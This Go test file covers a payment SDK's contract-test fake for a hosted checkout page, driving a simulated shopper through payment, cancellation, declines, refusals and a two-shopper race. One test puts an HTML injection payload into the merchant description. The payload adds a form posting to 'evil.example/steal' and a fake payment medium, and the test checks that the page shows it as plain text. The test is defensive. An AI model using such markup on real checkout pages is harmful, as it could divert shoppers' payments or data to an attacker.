package contracttest_test

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/lakipay/checkout-go/client"
	"github.com/lakipay/checkout-go/contracttest"
)

// TestShopperDrivesTheHostedPage pays, cancels and pays into a decline through the page
// itself, and checks each redirect and the transaction it leaves behind.
func TestShopperDrivesTheHostedPage(t *testing.T) {
	srv := contracttest.NewServer(t)
	shopper := srv.Shopper()
	ctx := context.Background()
	cases := []struct {
		name       string
		decline    bool
		act        func(url string) (string, error)
		redirect   string
		status     client.TransactionStatus
		withMedium bool
	}{
		{name: "pay", act: func(u string) (string, error) { return shopper.Pay(ctx, u, client.MediumTELEBIRR) },
			redirect: "https://example.com/success", status: client.TransactionStatusSUCCESS, withMedium: true},
		{name: "cancel", act: func(u string) (string, error) { return shopper.Cancel(ctx, u) },
			redirect: "https://example.com/failed", status: client.TransactionStatusCANCELLED},
		{name: "declined", decline: true, act: func(u string) (string, error) { return shopper.Pay(ctx, u, client.MediumTELEBIRR) },
			redirect: "https://example.com/failed", status: client.TransactionStatusFAILED, withMedium: true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s := createCheckout(t, srv, "R-shopper-"+tc.name, "")
			if tc.decline {
				require.NoError(t, srv.Decline(s.LakipayTransactionID))
			}
			target, err := tc.act(s.CheckoutURL)
			require.NoError(t, err)
			assert.Equal(t, tc.redirect, target)
			tx := transaction(t, srv, s.LakipayTransactionID)
			assert.Equal(t, tc.status, tx.Status)
			if tc.withMedium {
				assert.Equal(t, client.MediumTELEBIRR, tx.Medium, "the medium the shopper picked on the page")
			} else {
				assert.Empty(t, tx.Medium)
			}
		})
	}
}

func TestShopperReadsThePage(t *testing.T) {
	srv := contracttest.NewServer(t)
	s := createCheckout(t, srv, "R-open", "")
	page, err := srv.Shopper().Open(context.Background(), s.CheckoutURL)
	require.NoError(t, err)
	assert.Equal(t, &contracttest.CheckoutPage{
		URL: s.CheckoutURL, Amount: "1000.50", Currency: "ETB", Description: "Payment for order #123",
		Reference: "R-open", Mediums: []client.Medium{client.MediumMPESA, client.MediumTELEBIRR, client.MediumCBE},
		Payable: true,
	}, withoutAction(page))
}

// withoutAction copies a page without its unexported form target, for comparing.
func withoutAction(p *contracttest.CheckoutPage) *contracttest.CheckoutPage {
	return &contracttest.CheckoutPage{URL: p.URL, Amount: p.Amount, Currency: p.Currency, Description: p.Description,
		Reference: p.Reference, Mediums: p.Mediums, Payable: p.Payable, Notice: p.Notice}
}

// TestShopperRefuses covers what a shopper cannot do on the page: nothing is submitted, and
// the error says why with the fake's sentinel errors.
func TestShopperRefuses(t *testing.T) {
	srv := contracttest.NewServer(t)
	shopper := srv.Shopper()
	ctx := context.Background()

	t.Run("a medium the page does not offer", func(t *testing.T) {
		s := createCheckout(t, srv, "R-no-medium", "", client.MediumMPESA)
		_, err := shopper.Pay(ctx, s.CheckoutURL, client.MediumCBE)
		require.ErrorIs(t, err, contracttest.ErrMediumNotOffered)
		assert.Contains(t, err.Error(), "offered: MPESA")
		assert.Equal(t, client.TransactionStatusINITIATED, transaction(t, srv, s.LakipayTransactionID).Status)
	})
	t.Run("a final session", func(t *testing.T) {
		s := createCheckout(t, srv, "R-final", "")
		_, err := shopper.Pay(ctx, s.CheckoutURL, client.MediumMPESA)
		require.NoError(t, err)
		page, err := shopper.Open(ctx, s.CheckoutURL)
		require.NoError(t, err)
		assert.False(t, page.Payable)
		assert.Empty(t, page.Mediums)
		assert.Contains(t, page.Notice, "already SUCCESS")
		for name, act := range map[string]func() (string, error){
			"pay":    func() (string, error) { return shopper.Pay(ctx, s.CheckoutURL, client.MediumMPESA) },
			"cancel": func() (string, error) { return shopper.Cancel(ctx, s.CheckoutURL) },
		} {
			_, err := act()
			assert.ErrorIs(t, err, contracttest.ErrFinal, name)
		}
		assert.Equal(t, client.TransactionStatusSUCCESS, transaction(t, srv, s.LakipayTransactionID).Status)
	})
	t.Run("an unknown checkout", func(t *testing.T) {
		_, err := shopper.Pay(ctx, srv.Origin()+"/checkout/0000", client.MediumMPESA)
		require.ErrorIs(t, err, contracttest.ErrUnknownTransaction)
		assert.Contains(t, err.Error(), "not valid")
	})
	t.Run("not an absolute URL", func(t *testing.T) {
		_, err := shopper.Pay(ctx, "/checkout/0000", client.MediumMPESA)
		assert.ErrorContains(t, err, "not an absolute URL")
	})
	t.Run("a page that is not the hosted page", func(t *testing.T) {
		other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			http.Error(w, "upstream down", http.StatusBadGateway)
		}))
		defer other.Close()
		_, err := contracttest.NewShopper(other.Client()).Pay(ctx, other.URL+"/checkout/x", client.MediumMPESA)
		assert.ErrorContains(t, err, "the page answered 502")
	})
}

// TestShopperIsNotFooledByTheDescription puts markup into the one field a merchant controls
// that the page shows: it must stay text, never a second form or medium the shopper submits.
func TestShopperIsNotFooledByTheDescription(t *testing.T) {
	srv := contracttest.NewServer(t)
	hostile := `</p><form action="https://evil.example/steal"><input type="radio" name="medium" value="EVIL"></form><p id="amount">0.01`
	var body map[string]any
	require.NoError(t, json.Unmarshal(checkoutBody(t, "R-hostile", ""), &body))
	body["description"] = hostile
	raw, err := json.Marshal(body)
	require.NoError(t, err)
	status, _, out := call(t, validated(t), http.MethodPost, srv.URL()+"/payment/checkout", testKey, raw)
	require.Equal(t, http.StatusOK, status, string(out))
	var created client.CheckoutResponse
	require.NoError(t, json.Unmarshal(out, &created))

	shopper := srv.Shopper()
	page, err := shopper.Open(context.Background(), created.Data.CheckoutURL)
	require.NoError(t, err)
	assert.Equal(t, hostile, page.Description, "shown as text")
	assert.Equal(t, "1000.50", page.Amount)
	assert.Equal(t, []client.Medium{client.MediumMPESA, client.MediumTELEBIRR, client.MediumCBE}, page.Mediums)
	target, err := shopper.Pay(context.Background(), created.Data.CheckoutURL, client.MediumMPESA)
	require.NoError(t, err)
	assert.Equal(t, "https://example.com/success", target, "the form posted to the fake, not to the description's")
	_, err = shopper.Pay(context.Background(), created.Data.CheckoutURL, "EVIL")
	assert.ErrorIs(t, err, contracttest.ErrFinal)
}

// TestShoppersRaceForOneSession has two shoppers press Pay at once: one is redirected, the
// other is told the session is final, and one webhook goes out.
func TestShoppersRaceForOneSession(t *testing.T) {
	srv := contracttest.NewServer(t)
	hook := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
	defer hook.Close()
	s := createCheckout(t, srv, "R-race", hook.URL)
	shopper := srv.Shopper()
	var (
		wg      sync.WaitGroup
		mu      sync.Mutex
		targets []string
		errs    []error
	)
	for range 2 {
		wg.Go(func() {
			target, err := shopper.Pay(context.Background(), s.CheckoutURL, client.MediumCBE)
			mu.Lock()
			defer mu.Unlock()
			if err != nil {
				errs = append(errs, err)
				return
			}
			targets = append(targets, target)
		})
	}
	wg.Wait()
	assert.Equal(t, []string{"https://example.com/success"}, targets)
	require.Len(t, errs, 1)
	assert.ErrorIs(t, errs[0], contracttest.ErrFinal)
	accepted, err := srv.WaitForSuccessfulDeliveries(context.Background(), 1)
	require.NoError(t, err)
	assert.Len(t, accepted, 1)
	assert.Len(t, srv.Deliveries(), 1, "one payment, one webhook")
	assert.True(t, strings.HasPrefix(accepted[0].URL, hook.URL))
}
